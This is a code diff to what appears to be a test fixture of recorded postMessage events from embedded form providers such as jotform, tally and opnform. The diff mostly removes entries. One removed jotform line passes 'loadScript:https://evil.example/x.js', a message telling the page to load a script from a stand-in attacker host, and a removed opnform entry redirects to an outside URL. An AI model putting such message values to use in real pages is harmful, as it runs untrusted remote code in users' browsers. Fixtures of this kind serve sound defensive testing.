@@ -7,8 +7,6 @@ export interface Replay extends Sequence {
   height?: number;
   /** The number that is counted; undefined where the provider gives none and the host makes one. */
   submissionId?: string;
-  /** Steps that the page hears of after the press. */
-  steps?: number[];
 }
 
 const form = (name: ProviderChoice["name"]) => (origin: string) =>
@@ -27,7 +25,6 @@ const replays = {
     ],
     height: 608,
     submissionId: ID,
-    steps: [2],
   },
   highlevel: {
     choose: form("highlevel"),
@@ -59,39 +56,12 @@ const replays = {
     ],
     height: 512,
     submissionId: "r-1",
-    steps: [2],
-  },
-  jotform: {
-    choose: form("jotform"),
-    onLoad: ["setHeight:539:1", "scrollIntoView:1", "loadScript:https://evil.example/x.js:1", "reloadPage:1"],
-    onPress: [{ action: "submission-completed", formID: "1" }],
-    height: 544,
-  },
-  tally: {
-    choose: form("tally"),
-    onLoad: [
-      text({ event: "Tally.FormLoaded", payload: { formId: "1" } }),
-      text({ event: "Tally.FormPageView", payload: { formId: "1", page: 1 } }),
-      "[iFrameSizer]survey:640:400:init",
-    ],
-    onPress: [
-      text({ event: "Tally.FormPageView", payload: { formId: "1", page: 2 } }),
-      text({ event: "Tally.FormSubmitted", payload: { id: "s1", formId: "1", fields: [] } }),
-    ],
-    height: 640,
-    submissionId: "s1",
-    steps: [2],
   },
   "google-forms": {
     choose: form("google-forms"),
     onLoad: [],
     onPress: [],
     pressLeadsTo: "/formResponse",
-  },
-  formbricks: {
-    choose: form("formbricks"),
-    onLoad: ["formbricksSurveyCompleted"],
-    onPress: ["formbricksSurveyCompleted"],
   },
   cognito: {
     choose: form("cognito"),
@@ -103,28 +73,11 @@ const replays = {
     ],
     height: 800,
     submissionId: "1-23",
-    steps: [2],
-  },
-  opnform: {
-    choose: form("opnform"),
-    onLoad: ["[iFrameResizerChild]Ready", "[iFrameSizer]survey:701:400:init"],
-    onPress: [
-      { type: "form-submitted", form: { slug: "1", redirect_target_url: "https://elsewhere.example/" } },
-    ],
-    height: 704,
-  },
-  generic: {
-    choose: (origin) => ({
-      name: "generic",
-      address: `${origin}/f/1`,
-      completion: { path: "payload.event", equals: "done", idPath: "payload.id" },
-    }),
-    onLoad: [{ type: "resize-iframe", payload: { width: 300, height: 640 } }],
-    onPress: [{ payload: { event: "done", id: 17 } }],
-    height: 640,
-    submissionId: "17",
   },
 } satisfies Record<string, Replay>;
 
-/** What each provider's frame posts, as its own code or its users' reports show it. */
+/**
+ * What the frames post of those providers that differ in how they are loaded, filled in and sent, as their own code or their
+ * users' reports show it. The others' messages are read in packages/survey-embed.
+ */
 export const REPLAYS: Record<keyof typeof replays, Replay> = replays;
